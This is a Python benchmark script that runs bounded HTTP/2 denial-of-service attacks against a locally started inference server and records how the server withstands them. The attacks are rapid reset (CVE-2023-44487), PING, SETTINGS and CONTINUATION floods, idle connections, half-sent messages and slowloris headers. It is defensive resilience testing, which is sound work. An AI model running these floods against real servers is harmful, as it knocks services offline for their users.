"""Adversarial HTTP/2 runs against a real server, one per attack, each bounded in count and time.

    python -m infergate.bench.attacks --out bench/results/security-2026-12-01/before [--attack NAME]

For each attack a fresh `infergate serve` starts (with RLIMIT_NOFILE 1024), then: a normal client
(a closed loop of ModelInfer calls on `identity` over its own grpcio channel, in its own process,
plus a call on a fresh connection every second) runs alone, then again while the attack runs. The
record per attack: the server's RSS and CPU time before and after, when the server sent GOAWAY
(code, debug text) or closed the attacking connections, the normal client's P50/P99 and errors
alone and during the attack, whether the server still serves afterwards and how it exits on
SIGTERM, and the host's load. Writes attacks.json and attacks.md to --out.
"""

from __future__ import annotations

import argparse
import collections
import datetime as dt
import json
import logging
import multiprocessing as mp
import os
import resource
import selectors
import shlex
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import grpc
import hpack
import numpy as np

try:
    import hypothesis  # noqa: F401  (the bench extra; h2fuzz builds its strategies at import)
except ModuleNotFoundError:
    if __name__ == "__main__":  # the command, not a test importing it: one line, not a traceback
        print("python -m infergate.bench.attacks: hypothesis is not installed; pip install 'infergate[bench]'",
              file=sys.stderr)
        sys.exit(2)
    raise
from infergate.bench import h2fuzz
from infergate.bench.h2fuzz import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    frame,
)

logger = logging.getLogger(__name__)

ATTACK_S = 20.0  # the most any one attack runs
# slow_message alone holds longer: a message that stops half way is only given up on after a read
# timeout (30 s in the rewritten transport), and the run should show whether it is.
SLOW_MESSAGE_S = 40.0
BASELINE_S = 3.0  # the normal client alone, before each attack
SERVER_MAX_OPEN_FILES = 1024  # the server's descriptor limit (prlimit), as many distributions default to
ATTACKER_MAX_OPEN_FILES = 4096  # our own soft limit, raised for the idle-connections attack
CALL_TIMEOUT_S = 2.0  # the normal client's deadline per call
SEND_TIMEOUT_S = 1.0  # an attacker's write the server does not take within this counts as blocked
CANCEL = 0x8
SETTINGS_INITIAL_WINDOW_SIZE = 0x4


# -- watching attacking connections ------------------------------------------------------


@dataclass
class Peer:
    """What one attacking connection saw from the server."""

    sock: socket.socket
    buffer: bytearray = field(default_factory=bytearray)
    goaway: tuple[float, str, str] | None = None  # (seconds into the attack, error code, debug text)
    closed_s: float | None = None  # when the server closed the connection
    frames: collections.Counter[str] = field(default_factory=collections.Counter)
    resets: collections.Counter[str] = field(default_factory=collections.Counter)
    first_reset_s: float | None = None  # when the server first reset one of its calls
    is_retired: bool = False  # the attacker closed it (so a later error is not the server's doing)


class Watcher:
    """Reads every attacking connection in one thread and notes GOAWAY, RST_STREAM and closes."""

    def __init__(self) -> None:
        self.selector = selectors.DefaultSelector()
        self.peers: list[Peer] = []
        self.started = time.monotonic()
        self.lock = threading.Lock()
        self.should_stop = False
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def add(self, sock: socket.socket, early: bytes = b"") -> Peer:
        peer = Peer(sock, bytearray(early))
        self._parse(peer)
        with self.lock:
            self.peers.append(peer)
            self.selector.register(sock, selectors.EVENT_READ, peer)
        return peer

    def retire(self, peer: Peer) -> None:
        """Stops watching a connection the attacker is done with and closes it."""
        time.sleep(0.005)  # a GOAWAY that is on its way
        peer.is_retired = True
        with self.lock:
            try:
                self.selector.unregister(peer.sock)
            except (KeyError, ValueError):
                pass
        try:
            while chunk := peer.sock.recv(1 << 18, socket.MSG_DONTWAIT):
                peer.buffer += chunk
        except OSError:
            pass
        self._parse(peer)
        peer.sock.close()

    def _run(self) -> None:
        while not self.should_stop:
            with self.lock:
                has_any = bool(self.selector.get_map())
            if not has_any:
                time.sleep(0.01)
                continue
            for key, _ in self.selector.select(0.05):
                peer: Peer = key.data
                if peer.is_retired:
                    continue
                try:
                    chunk = peer.sock.recv(1 << 18)
                except (BlockingIOError, TimeoutError):
                    continue
                except OSError:
                    chunk = b""
                if not chunk:
                    peer.closed_s = self.elapsed()
                    with self.lock:
                        try:
                            self.selector.unregister(peer.sock)
                        except (KeyError, ValueError):
                            pass
                    continue
                peer.buffer += chunk
                self._parse(peer)

    def _parse(self, peer: Peer) -> None:
        for kind, flags, _, payload in h2fuzz.read_frames(peer.sock, peer.buffer):
            peer.frames[_FRAME_NAMES.get(kind, str(kind)) + (" ACK" if kind in (PING, SETTINGS) and flags & ACK
                                                             else "")] += 1
            if kind == GOAWAY and peer.goaway is None and len(payload) >= 8:
                peer.goaway = (self.elapsed(), h2fuzz.error_name(struct.unpack_from(">I", payload, 4)[0]),
                               payload[8:].decode("utf-8", "replace")[:200])
            elif kind == RST_STREAM and len(payload) == 4:
                peer.resets[h2fuzz.error_name(struct.unpack(">I", payload)[0])] += 1
                if peer.first_reset_s is None:
                    peer.first_reset_s = self.elapsed()

    def elapsed(self) -> float:
        return round(time.monotonic() - self.started, 3)

    def is_cut_off(self, peer: Peer) -> bool:
        return peer.goaway is not None or peer.closed_s is not None

    def stop(self) -> dict[str, Any]:
        """Closes every connection; what the server did to them."""
        time.sleep(0.2)  # the last answers in flight
        self.should_stop = True
        self.thread.join(5)
        goaways = collections.Counter(f"{p.goaway[1]}: {p.goaway[2]}" for p in self.peers if p.goaway)
        frames: collections.Counter[str] = collections.Counter()
        resets: collections.Counter[str] = collections.Counter()
        for peer in self.peers:
            frames.update(peer.frames)
            resets.update(peer.resets)
            peer.sock.close()
        first_goaway = min((p.goaway[0] for p in self.peers if p.goaway), default=None)
        first_close = min((p.closed_s for p in self.peers if p.closed_s is not None), default=None)
        first_reset = min((p.first_reset_s for p in self.peers if p.first_reset_s is not None), default=None)
        return {"connections": len(self.peers), "got_goaway": sum(p.goaway is not None for p in self.peers),
                "closed_by_server": sum(p.closed_s is not None for p in self.peers),
                "first_goaway_s": first_goaway, "first_close_s": first_close, "first_reset_s": first_reset,
                "goaways": dict(goaways),
                "frames_received": dict(frames), "resets_received": dict(resets)}


_FRAME_NAMES = {DATA: "DATA", HEADERS: "HEADERS", RST_STREAM: "RST_STREAM", SETTINGS: "SETTINGS", PING: "PING",
                GOAWAY: "GOAWAY", 8: "WINDOW_UPDATE", CONTINUATION: "CONTINUATION"}


def open_h2(address: str, timeout_s: float = 5.0) -> tuple[socket.socket, bytes]:
    """A connection past the preface: our SETTINGS sent, the server's read and acknowledged.
    Returns the socket and whatever the server sent after its SETTINGS."""
    sock = h2fuzz.connect(address, timeout_s)
    sock.sendall(h2fuzz.PREFACE + frame(SETTINGS, 0, 0))
    buffer = bytearray()
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        frames = h2fuzz.read_frames(sock, buffer)
        if any(kind == SETTINGS and not flags & ACK for kind, flags, _, _ in frames):
            sock.sendall(frame(SETTINGS, ACK, 0))
            sock.settimeout(SEND_TIMEOUT_S)
            return sock, bytes(buffer)
        chunk = sock.recv(1 << 16)
        if not chunk:
            break
        buffer += chunk
    sock.close()
    raise ConnectionError("the server did not send its SETTINGS")


def call_frames(encoder: hpack.Encoder, stream_id: int, message: bytes, end: bool = True) -> bytes:
    return (frame(HEADERS, END_HEADERS, stream_id, h2fuzz.request_headers(encoder))
            + frame(DATA, END_STREAM if end else 0, stream_id, message))


MESSAGE = h2fuzz.grpc_message(h2fuzz.identity_request().SerializeToString())


# -- the attacks -------------------------------------------------------------------------
# Each takes the server's address and the watcher and returns what it sent; each stops by itself
# at its count, at ATTACK_S, or when the server cut the connection off.


def send(sock: socket.socket, data: bytes, counts: collections.Counter[str]) -> bool:
    """sendall with the socket's timeout; False once the server stopped taking bytes."""
    try:
        sock.sendall(data)
    except TimeoutError:
        counts["sends_blocked"] += 1  # the server stopped reading us (backpressure)
        return False
    except OSError:
        counts["sends_failed"] += 1  # the server closed the connection
        return False
    return True


def on_new_connections(address: str, watcher: Watcher, counts: collections.Counter[str], seconds: float,
                       flood: Callable[[Peer], bool]) -> None:
    """Runs flood(peer) on one connection after another until `seconds` pass or flood returns
    False (its count is reached): a real attacker reconnects after each GOAWAY."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            sock, early = open_h2(address)
        except (OSError, ConnectionError):
            counts["connects_failed"] += 1
            time.sleep(0.01)
            continue
        counts["connections"] += 1
        peer = watcher.add(sock, early)
        while time.monotonic() < deadline and not watcher.is_cut_off(peer):
            failed_before = counts["sends_failed"]
            if not flood(peer) and counts["_done"]:
                watcher.retire(peer)
                return
            if counts["sends_failed"] > failed_before:
                break  # the server closed it (a blocked send is backpressure: go on)
        watcher.retire(peer)


def rapid_reset(address: str, watcher: Watcher) -> dict[str, Any]:
    """CVE-2023-44487: HEADERS + DATA (a whole ModelInfer call) then RST_STREAM(CANCEL), 100 pairs
    per write; a new connection after each GOAWAY."""
    max_pairs, counts = 2_000_000, collections.Counter[str]()
    state: dict[int, tuple[hpack.Encoder, list[int]]] = {}  # per connection: its encoder, its next stream id

    def flood(peer: Peer) -> bool:
        if counts["pairs"] >= max_pairs:
            counts["_done"] = 1
            return False
        encoder, stream_id = state.setdefault(id(peer), (hpack.Encoder(), [1]))
        first = stream_id[0]
        batch = b"".join(call_frames(encoder, first + 2 * i, MESSAGE)
                         + frame(RST_STREAM, 0, first + 2 * i, struct.pack(">I", CANCEL)) for i in range(100))
        if not send(peer.sock, batch, counts):
            return False
        stream_id[0] += 200
        counts["pairs"] += 100
        return stream_id[0] < (1 << 31) - 300

    on_new_connections(address, watcher, counts, ATTACK_S, flood)
    return _public(counts)


def ping_flood(address: str, watcher: Watcher) -> dict[str, Any]:
    """PING frames, 1,000 per write, as fast as the server takes them (we read every ACK); a new
    connection after each GOAWAY."""
    max_pings, counts = 100_000_000, collections.Counter[str]()
    batch = b"".join(frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(1000))

    def flood(peer: Peer) -> bool:
        if counts["pings"] >= max_pings:
            counts["_done"] = 1
            return False
        if not send(peer.sock, batch, counts):
            return False
        counts["pings"] += 1000
        return True

    on_new_connections(address, watcher, counts, ATTACK_S, flood)
    return _public(counts)


def settings_flood(address: str, watcher: Watcher) -> dict[str, Any]:
    """For half the time SETTINGS frames (each wants an ACK), 500 per write; for the other half,
    with 1,000 calls held open on the connection, SETTINGS frames of 10,000 INITIAL_WINDOW_SIZE
    entries each (every entry touches every open call's window). A new connection after each GOAWAY."""
    max_frames, big_entries, open_calls = 20_000_000, 10_000, 1000
    counts: collections.Counter[str] = collections.Counter()
    small = frame(SETTINGS, 0, 0, struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, 65535)) * 500

    def flood_small(peer: Peer) -> bool:
        if counts["small_settings"] >= max_frames:
            counts["_done"] = 1
            return False
        if not send(peer.sock, small, counts):
            return False
        counts["small_settings"] += 500
        return True

    on_new_connections(address, watcher, counts, ATTACK_S / 2, flood_small)
    counts["_done"] = 0
    half = MESSAGE[:len(MESSAGE) // 2]  # calls that stay open: their message never completes
    big = frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, 65535 + i % 2)
                                         for i in range(big_entries)))
    prepared: set[int] = set()

    def flood_big(peer: Peer) -> bool:
        if id(peer) not in prepared:
            prepared.add(id(peer))
            calls = b"".join(call_frames(hpack.Encoder(), 1 + 2 * i, half, end=False) for i in range(open_calls))
            if not send(peer.sock, calls, counts):
                return False
            counts["calls_held_open"] += open_calls
        sent_at, acks_before = time.monotonic(), peer.frames["SETTINGS ACK"]
        if not send(peer.sock, big, counts):
            return False
        counts["big_settings"] += 1
        while peer.frames["SETTINGS ACK"] == acks_before and not watcher.is_cut_off(peer):
            if time.monotonic() - sent_at > ATTACK_S:
                return False
            time.sleep(0.002)
        if peer.frames["SETTINGS ACK"] > acks_before:
            counts["big_settings_acked"] += 1
            counts["big_settings_ack_ms_max"] = max(counts["big_settings_ack_ms_max"],
                                                    round((time.monotonic() - sent_at) * 1000))
        return True

    on_new_connections(address, watcher, counts, ATTACK_S / 2, flood_big)
    return _public(counts)


def continuation_flood(address: str, watcher: Watcher) -> dict[str, Any]:
    """HEADERS without END_HEADERS, then zero-length CONTINUATION frames, 10,000 per write; a new
    connection after each GOAWAY."""
    max_frames, counts = 50_000_000, collections.Counter[str]()
    batch = frame(CONTINUATION, 0, 1) * 10_000
    started: set[int] = set()

    def flood(peer: Peer) -> bool:
        if counts["continuations"] >= max_frames:
            counts["_done"] = 1
            return False
        if id(peer) not in started:
            started.add(id(peer))
            if not send(peer.sock, frame(HEADERS, 0, 1, h2fuzz.request_headers(hpack.Encoder())[:4]), counts):
                return False
        if not send(peer.sock, batch, counts):
            return False
        counts["continuations"] += 10_000
        return True

    on_new_connections(address, watcher, counts, ATTACK_S, flood)
    return _public(counts)


def _public(counts: collections.Counter[str]) -> dict[str, Any]:
    return {key: value for key, value in counts.items() if not key.startswith("_")}


def idle_connections(address: str, watcher: Watcher) -> dict[str, Any]:
    """2,000 connections that send the preface and SETTINGS, then nothing, held for the rest of ATTACK_S."""
    wanted, counts = 2000, collections.Counter[str]()
    deadline = time.monotonic() + ATTACK_S
    for _ in range(wanted):
        if time.monotonic() > deadline - 5:
            break
        try:
            sock = h2fuzz.connect(address, timeout_s=1.0)
            sock.sendall(h2fuzz.PREFACE + frame(SETTINGS, 0, 0))
        except OSError:
            counts["connect_failed"] += 1
            continue
        watcher.add(sock)
        counts["connections_opened"] += 1
    counts["opened_within_ms"] = round((ATTACK_S - (deadline - time.monotonic())) * 1000)
    while time.monotonic() < deadline - 3:
        time.sleep(0.1)
    counts["answered_with_settings"] = sum(1 for p in watcher.peers if p.frames["SETTINGS"])
    counts["late_connections_served"] = sum(late_connection_is_served(address) for _ in range(5))
    while time.monotonic() < deadline:
        time.sleep(0.1)
    return dict(counts)


def late_connection_is_served(address: str) -> bool:
    """Whether one more raw connection, opened now, gets the server's SETTINGS within 0.5 s."""
    try:
        sock, _ = open_h2(address, timeout_s=0.5)
    except (OSError, ConnectionError):
        return False
    sock.close()
    return True


def slow_message(address: str, watcher: Watcher) -> dict[str, Any]:
    """10 connections x 100 calls whose 64 KiB message stops half way, held for SLOW_MESSAGE_S
    (40 s) or until the server cuts every connection off."""
    connections, calls, counts = 10, 100, collections.Counter[str]()
    body = h2fuzz.identity_request(np.zeros((256, h2fuzz.IDENTITY_WIDTH), np.float32)).SerializeToString()
    half = h2fuzz.grpc_message(body)[:len(body) // 2]
    deadline = time.monotonic() + max(SLOW_MESSAGE_S, ATTACK_S)
    for _ in range(connections):
        sock, early = open_h2(address)
        watcher.add(sock, early)
        encoder = hpack.Encoder()
        if send(sock, b"".join(call_frames(encoder, 1 + 2 * i, half, end=False) for i in range(calls)), counts):
            counts["calls_half_sent"] += calls
    counts["bytes_held_by_server"] = counts["calls_half_sent"] * len(half)
    while time.monotonic() < deadline and not all(watcher.is_cut_off(p) for p in watcher.peers):
        time.sleep(0.1)
    return dict(counts)


def slowloris_headers(address: str, watcher: Watcher) -> dict[str, Any]:
    """200 connections each with a header block left unfinished (HEADERS without END_HEADERS),
    one more byte of it (a CONTINUATION) every 2 s, held for ATTACK_S."""
    connections, counts = 200, collections.Counter[str]()
    deadline = time.monotonic() + ATTACK_S
    peers = []
    for _ in range(connections):
        sock, early = open_h2(address)
        peers.append(watcher.add(sock, early))
        if send(sock, frame(HEADERS, 0, 1, b"\x83"), counts):  # :method POST, and the block goes on
            counts["unfinished_header_blocks"] += 1
    while time.monotonic() < deadline and not all(watcher.is_cut_off(p) for p in peers):
        time.sleep(min(2.0, max(deadline - time.monotonic(), 0)))
        for peer in peers:
            if not watcher.is_cut_off(peer) and send(peer.sock, frame(CONTINUATION, 0, 1, b"\x86"), counts):
                counts["trickled_bytes"] += 1
    return dict(counts)


ATTACKS: dict[str, Callable[[str, Watcher], dict[str, Any]]] = {
    "rapid_reset": rapid_reset, "ping_flood": ping_flood, "settings_flood": settings_flood,
    "continuation_flood": continuation_flood, "idle_connections": idle_connections,
    "slow_message": slow_message, "slowloris_headers": slowloris_headers}


# -- the normal client -------------------------------------------------------------------


def probe(address: str, ready: Any, stop: Any, results: Any) -> None:
    """A closed loop of ModelInfer calls on one channel until stop, and a call on a fresh
    connection every second; puts a summary on results."""
    body = h2fuzz.identity_request().SerializeToString()
    latencies: list[float] = []
    errors: collections.Counter[str] = collections.Counter()
    fresh: list[str | None] = []

    def fresh_calls() -> None:
        while not stop.wait(1.0):
            fresh.append(h2fuzz.normal_infer_error(address, timeout_s=CALL_TIMEOUT_S))

    with grpc.insecure_channel(address, options=[("grpc.use_local_subchannel_pool", 1)]) as channel:
        call = channel.unary_unary(h2fuzz.INFER_PATH, request_serializer=None, response_deserializer=None)
        call(body, timeout=30)  # connected
        ready.set()
        checker = threading.Thread(target=fresh_calls, daemon=True)
        checker.start()
        started = time.monotonic()
        while not stop.is_set():
            sent = time.perf_counter()
            try:
                call(body, timeout=CALL_TIMEOUT_S)
            except grpc.RpcError as exc:
                errors[exc.code().name] += 1
                stop.wait(0.05)
                continue
            latencies.append(time.perf_counter() - sent)
        elapsed = time.monotonic() - started
        checker.join(CALL_TIMEOUT_S + 2)
    ms = np.array(latencies) * 1000
    results.put({"calls_ok": len(latencies), "calls_per_s": round(len(latencies) / max(elapsed, 1e-9), 1),
                 "p50_ms": round(float(np.percentile(ms, 50)), 2) if len(ms) else None,
                 "p99_ms": round(float(np.percentile(ms, 99)), 2) if len(ms) else None,
                 "max_ms": round(float(ms.max()), 1) if len(ms) else None, "errors": dict(errors),
                 "fresh_connection_calls": len(fresh), "fresh_connection_failures": [e for e in fresh if e][:5],
                 "fresh_connection_failed": sum(1 for e in fresh if e)})


class Prober:
    """The normal client in its own process (so the attacker's Python does not slow it down)."""

    def __init__(self, address: str) -> None:
        context = mp.get_context("spawn")
        self.ready, self.should_stop, self.results = context.Event(), context.Event(), context.Queue()
        self.process = context.Process(target=probe, args=(address, self.ready, self.should_stop, self.results),
                                       daemon=True)
        self.process.start()
        if not self.ready.wait(60):
            self.process.kill()
            raise RuntimeError("the normal client could not make its first call")

    def finish(self) -> dict[str, Any]:
        self.should_stop.set()
        try:
            summary: dict[str, Any] = self.results.get(timeout=CALL_TIMEOUT_S * 3 + 10)
        except Exception:
            summary = {"error": "the normal client did not report"}
        self.process.join(10)
        if self.process.is_alive():
            self.process.kill()
        return summary


# -- running -----------------------------------------------------------------------------


def open_files(pid: int) -> dict[str, Any]:
    """How many descriptors a process has open, and its limit (from /proc)."""
    with open(f"/proc/{pid}/limits") as limits:
        limit = next((line.split()[3] for line in limits if line.startswith("Max open files")), "unknown")
    return {"open": len(os.listdir(f"/proc/{pid}/fd")), "soft_limit": limit}


def run_attack(name: str) -> dict[str, Any]:
    server = h2fuzz.start_server(max_open_files=SERVER_MAX_OPEN_FILES)
    record: dict[str, Any] = {"attack": name, "what": " ".join((ATTACKS[name].__doc__ or "").split()),
                              "load_before": h2fuzz.host_load()}
    try:
        assert h2fuzz.normal_infer_error(server.address) is None
        baseline = Prober(server.address)
        time.sleep(BASELINE_S)
        record["client_alone"] = baseline.finish()
        record["rss_mib_before"] = round(h2fuzz.rss_bytes(server.pid) / 2**20, 1)
        cpu_before = h2fuzz.cpu_s(server.pid)
        during = Prober(server.address)
        watcher = Watcher()
        started = time.monotonic()
        try:
            record["sent"] = ATTACKS[name](server.address, watcher)
        except Exception as exc:  # an attack that could not go on is itself a result
            record["sent"] = {"attack_stopped_by": f"{type(exc).__name__}: {exc}"}
        record["attack_s"] = round(time.monotonic() - started, 2)
        if server.is_alive():
            record["rss_mib_at_end_of_attack"] = round(h2fuzz.rss_bytes(server.pid) / 2**20, 1)
            record["server_fds_at_end_of_attack"] = open_files(server.pid)
        record["server_saw"] = watcher.stop()
        record["client_during"] = during.finish()
        record["server_alive_after"] = server.is_alive()
        if server.is_alive():
            record["rss_mib_after"] = round(h2fuzz.rss_bytes(server.pid) / 2**20, 1)
            record["server_cpu_s_during"] = round(h2fuzz.cpu_s(server.pid) - cpu_before, 2)
            record["normal_call_after"] = h2fuzz.normal_infer_error(server.address) or "ok"
    finally:
        record["exit_code_on_sigterm"] = server.stop()
        record["load_after"] = h2fuzz.host_load()
        record["server_log_tail"] = [line.rstrip() for line in server.log[-8:]]
    return record


def markdown(doc: dict[str, Any]) -> str:
    lines = [f"# HTTP/2 attacks ({doc['date']})", "", f"    {doc['command']}", "",
             f"Commit `{doc['code']['git_commit'][:10]}`; server code from `{doc['code']['server_code']}` "
             f"({doc['code']['server_files_changed_since_commit']} files under server/ differ from the commit in "
             "the working tree). " + doc["code"]["code_note"] + " " + doc["host_note"], "",
             "| attack | sent | attack s | GOAWAY / close | server CPU s | RSS MiB before -> end -> after | "
             "client alone P50 / P99 ms (calls/s) | client during P50 / P99 ms (calls/s) | client errors during | "
             "fresh connections failed | exit | load before -> after |",
             "|---|---|---|---|---|---|---|---|---|---|---|---|"]
    for r in doc["attacks"]:
        saw = r.get("server_saw", {})
        cut = "none"
        if saw.get("got_goaway"):
            codes = "; ".join(f"{k} (x{v})" for k, v in saw["goaways"].items())
            cut = f"GOAWAY after {saw['first_goaway_s']} s: {codes}"
        elif saw.get("closed_by_server"):
            cut = f"closed after {saw['first_close_s']} s, no GOAWAY"
        if saw.get("connections", 0) > 1:
            cut += (f" [{saw.get('got_goaway', 0)} GOAWAY, {saw.get('closed_by_server', 0)} closed of "
                    f"{saw['connections']}]")
        alone, during = r.get("client_alone", {}), r.get("client_during", {})
        sent = ", ".join(f"{k} {v:,}" if isinstance(v, int) else f"{k} {v}" for k, v in r.get("sent", {}).items())
        lines.append(
            f"| {r['attack']} | {sent} | {r.get('attack_s', '-')} | {cut.replace('|', '/')} | "
            f"{r.get('server_cpu_s_during', '-')} | {r.get('rss_mib_before', '-')} -> "
            f"{r.get('rss_mib_at_end_of_attack', '-')} -> {r.get('rss_mib_after', '-')} | {alone.get('p50_ms')} / "
            f"{alone.get('p99_ms')} ({alone.get('calls_per_s')}) | "
            f"{during.get('p50_ms')} / {during.get('p99_ms')} ({during.get('calls_per_s')}) | "
            f"{during.get('errors') or 0} | {during.get('fresh_connection_failed', '-')} of "
            f"{during.get('fresh_connection_calls', '-')} | {r['exit_code_on_sigterm']} | "
            f"{r['load_before']['loadavg'][0]} -> {r['load_after']['loadavg'][0]} |")
    lines += ["", "Columns: *sent* what the attacker wrote before it stopped (its count, "
              f"{ATTACK_S:.0f} s, or the server cutting it off; written means handed to the kernel, so after a "
              "GOAWAY some went to a connection already closing; `connections`: a new one after each GOAWAY); "
              "*server CPU s* utime+stime of the server during the attack (the normal client's calls included); "
              "*client* a closed loop of ModelInfer calls on "
              f"`identity` (deadline {CALL_TIMEOUT_S} s) over its own connection, alone for {BASELINE_S:.0f} s "
              "before the attack, then during it; *fresh connections* one call on a new connection each second "
              "during the attack; *exit* the server's exit code on SIGTERM afterwards.", ""]
    for r in doc["attacks"]:
        lines += [f"- **{r['attack']}**: {r['what']}"]
    return "\n".join(lines) + "\n"


def main(argv: list[str] | None = None) -> int:
    global ATTACK_S
    parser = argparse.ArgumentParser(prog="python -m infergate.bench.attacks", description=__doc__.split("\n")[0])
    parser.add_argument("--out", type=Path, required=True,
                        help="folder for attacks.json and attacks.md (attacks-NAME.* with --attack)")
    parser.add_argument("--attack", choices=sorted(ATTACKS), action="append",
                        help="run only this attack (repeatable); default: all")
    parser.add_argument("--attack-seconds", type=float, default=ATTACK_S, help="the most any one attack runs")
    parser.add_argument("--code-note", default="", help="where the server code came from, for the record")
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(name)s: %(message)s")
    ATTACK_S = args.attack_seconds
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = ATTACKER_MAX_OPEN_FILES if hard == resource.RLIM_INFINITY else min(ATTACKER_MAX_OPEN_FILES, hard)
    if soft < wanted:
        resource.setrlimit(resource.RLIMIT_NOFILE, (wanted, hard))
    doc: dict[str, Any] = {
        "date": dt.datetime.now(dt.timezone.utc).isoformat(timespec="seconds"),
        "command": "python -m infergate.bench.attacks " + shlex.join(sys.argv[1:] if argv is None else argv),
        "code": h2fuzz.code_identity(args.code_note), "load_at_start": h2fuzz.host_load(),
        "host_note": (f"The host has {h2fuzz.host_load()['nproc']} CPUs shared by the server, the attacker, the "
                      "normal client and other engineers' test runs: latencies are relative, within one run."),
        "limits": {"attack_s": args.attack_seconds, "baseline_s": BASELINE_S,
                   "server_max_open_files": SERVER_MAX_OPEN_FILES},
        "attacks": []}
    for name in args.attack or list(ATTACKS):
        logger.info("attack %s", name)
        doc["attacks"].append(run_attack(name))
        logger.info("%s", json.dumps(doc["attacks"][-1])[:600])
    doc["load_at_end"] = h2fuzz.host_load()
    args.out.mkdir(parents=True, exist_ok=True)
    stem = "attacks" if not args.attack else "attacks-" + "-".join(args.attack)
    (args.out / f"{stem}.json").write_text(json.dumps(doc, indent=1) + "\n")
    (args.out / f"{stem}.md").write_text(markdown(doc))
    print(markdown(doc))
    return 0


if __name__ == "__main__":
    sys.exit(main())
